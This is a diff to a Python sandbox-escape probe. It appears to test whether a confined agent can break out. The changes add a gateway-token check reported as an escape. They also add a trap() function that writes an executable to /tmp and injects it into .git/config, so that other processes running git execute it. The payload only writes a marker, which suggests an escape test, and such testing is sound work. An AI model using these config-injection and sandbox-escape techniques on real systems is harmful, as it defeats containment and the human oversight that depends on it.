@@ -98,6 +98,7 @@ def opens(paths, mode="rb", look=None):
 
 # ---- the kernel ----
 libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
 X86 = dict(
     ptrace=101, process_vm_readv=310, process_vm_writev=311, mount=165, umount2=166, pivot_root=155, chroot=161,
     unshare=272, setns=308, clone=56, add_key=248, request_key=249, keyctl=250, bpf=321, userfaultfd=323,
@@ -319,7 +320,7 @@ def refused(answer):
 
 def take(token):
     """Whether a token opens the gateway."""
-    answer = box_api("POST", "/box/v1/heartbeat", token)
+    answer = box_api("POST", "/box/v1/heartbeat", token, '{"stage":"agent"}')
     escaped("a token that the gateway takes") if b" 200 " in answer[:20] or b" 204 " in answer[:20] else stopped(status(answer))
 
 
@@ -351,6 +352,18 @@ def commit(files, message="work"):
     tree = git("write-tree", env=env).stdout.strip()
     made = git("commit-tree", tree, "-p", "HEAD", "-m", message, env=env)
     return made.stdout.strip() or stopped(f"GIT: {made.stderr}")
+
+
+def trap(config):
+    """Lays a trap in git's configuration, without running git: only others may spring it.
+    `{trap}` stands for a program that changes this attempt's file of the host."""
+    program = f"/tmp/trap-{NAME}"
+    with open(program, "w") as file:
+        file.write(f"#!/bin/sh\necho trap > '{FILE}'\ncat 2>/dev/null\nexit 0\n")
+    os.chmod(program, 0o755)
+    with open(".git/config", "a") as file:
+        file.write(config.replace("{trap}", program))
+    return program
 
 
 def branch():
